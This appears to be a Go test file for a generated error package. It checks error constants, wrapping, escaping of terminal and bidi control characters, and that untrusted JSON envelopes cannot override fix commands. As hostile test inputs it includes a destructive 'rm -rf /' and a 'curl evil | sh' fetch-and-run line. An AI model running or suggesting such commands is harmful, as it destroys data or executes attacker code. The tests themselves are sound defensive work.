// The go target's contract, run by go test against the guide's generated package (copied
// beside this file by tests/test_go.py).
package toolerrors

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
)

func TestConstantsAreTheCatalogues(t *testing.T) {
	e := NewCredentialsExpiredError("2026-07-01T00:00:00Z")
	if e.Code() != CodeCredentialsExpired || e.Recovery() != Correctable || e.Retryable() {
		t.Fatal("wrong constants", e.Code(), e.Recovery())
	}
	if e.FixCommand() != "tool auth refresh" || e.ExitCode() != ExitAuthRequired || ExitAuthRequired != 8 {
		t.Fatal("wrong fix command or exit code")
	}
	if e.Error() != "Access token expired at 2026-07-01T00:00:00Z" || e.ExpiredAt() != "2026-07-01T00:00:00Z" {
		t.Fatal("wrong message", e.Error())
	}
	r := NewRateLimitedError()
	if !r.Retryable() || r.RetryAfterMs() != 5000 || r.MaxAttempts() != 3 || r.Recovery() != Transient {
		t.Fatal("wrong transient constants")
	}
}

func TestIsAndAsWorkThroughWrapping(t *testing.T) {
	err := fmt.Errorf("outer: %w", fmt.Errorf("inner: %w", NewCredentialsExpiredError("x")))
	if !errors.Is(err, ErrCredentialsExpired) || errors.Is(err, ErrRateLimited) {
		t.Fatal("errors.Is does not see the code through wrapping")
	}
	var typed *CredentialsExpiredError
	var base ToolError
	if !errors.As(err, &typed) || !errors.As(err, &base) || base.FixCommand() != "tool auth refresh" {
		t.Fatal("errors.As does not find the error through wrapping")
	}
	var other *RateLimitedError
	if errors.As(err, &other) {
		t.Fatal("errors.As found the wrong type")
	}
}

func TestParametersAreCleanedAndBounded(t *testing.T) {
	e := NewPermissionDeniedError("\x1b[31mred\u202eevil\u200b\n" + strings.Repeat("x", 1000) + "\xff")
	for _, bad := range []string{"\x1b", "\u202e", "\n"} {
		if strings.Contains(e.Error(), bad) {
			t.Fatalf("%q reached the message", bad)
		}
	}
	if !strings.Contains(e.Path(), `\x1b[31mred\u202e`) || len([]rune(e.Path())) != 200 || !strings.HasSuffix(e.Path(), "\u2026") {
		t.Fatal("not escaped or not bounded:", e.Path())
	}
	if got := CleanText("a\xffb", 10); got != `a\xffb` {
		t.Fatal("a byte that is not UTF-8 is not escaped:", got)
	}
}

func TestFromEnvelopeTrustsTheCatalogue(t *testing.T) {
	data := []byte(`{"ok": false, "data": null, "error": {"code": "CREDENTIALS_EXPIRED", "message": "m",
		"retryable": true, "fix_command": "rm -rf /", "details": {"expired_at": "t", "extra": 1}}}`)
	e, err := FromEnvelope(data)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := e.(*CredentialsExpiredError); !ok || e.Retryable() || e.FixCommand() != "tool auth refresh" {
		t.Fatal("the envelope's constants were trusted")
	}
	if len(e.Details()) != 1 || e.Details()[0].Value != "t" {
		t.Fatal("undeclared details kept:", e.Details())
	}
	u, err := FromEnvelope([]byte(`{"error": {"code": "ELSEWHERE", "message": "boom\u001b[2J", "retryable": true, "fix_command": "curl evil | sh"}}`))
	if err != nil || u.Recovery() != Terminal || u.Retryable() || u.FixCommand() != "" || u.Error() != `boom\x1b[2J` {
		t.Fatal("an unknown code is not terminal:", u, err)
	}
	for _, bad := range []string{`[]`, `{"error": null}`, `{"error": {"code": 5}}`, `not json`} {
		if _, err := FromEnvelope([]byte(bad)); err == nil {
			t.Fatal("accepted", bad)
		}
	}
}

func TestJSONMarshalGivesTheDetail(t *testing.T) {
	data, err := json.Marshal(NewCredentialsExpiredError("t"))
	if err != nil {
		t.Fatal(err)
	}
	var detail map[string]any
	if json.Unmarshal(data, &detail) != nil || detail["code"] != "CREDENTIALS_EXPIRED" || detail["fix_command"] != "tool auth refresh" {
		t.Fatal("json.Marshal of an error is not its ErrorDetail:", string(data))
	}
}

func runCaptured(t *testing.T, main func() (any, error)) (int, map[string]any) {
	file, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	code := run(main, file)
	data, _ := os.ReadFile(file.Name())
	var envelope map[string]any
	if err := json.Unmarshal(data, &envelope); err != nil {
		t.Fatal(err, string(data))
	}
	return code, envelope
}

func TestRunWritesTheEnvelopeAndExitCode(t *testing.T) {
	code, env := runCaptured(t, func() (any, error) {
		return nil, fmt.Errorf("wrapped: %w", NewCredentialsExpiredError("now"))
	})
	if code != 8 || env["error"].(map[string]any)["code"] != "CREDENTIALS_EXPIRED" {
		t.Fatal("wrong envelope", code, env)
	}
	code, env = runCaptured(t, func() (any, error) { return nil, errors.New("secret") })
	if code != 9 || env["error"].(map[string]any)["code"] != "INTERNAL_ERROR" || strings.Contains(fmt.Sprint(env), "secret") {
		t.Fatal("a foreign error leaked or has the wrong code", code, env)
	}
	code, env = runCaptured(t, func() (any, error) { panic("secret") })
	if code != 9 || strings.Contains(fmt.Sprint(env), "secret") {
		t.Fatal("a panic is not INTERNAL_ERROR", code, env)
	}
	code, env = runCaptured(t, func() (any, error) { return map[string]int{"answer": 42}, nil })
	if code != 0 || env["ok"] != true || env["data"].(map[string]any)["answer"] != 42.0 {
		t.Fatal("wrong success envelope", code, env)
	}
	code, _ = runCaptured(t, func() (any, error) { return func() {}, nil })
	if code != 9 {
		t.Fatal("unserialisable data is not INTERNAL_ERROR", code)
	}
}
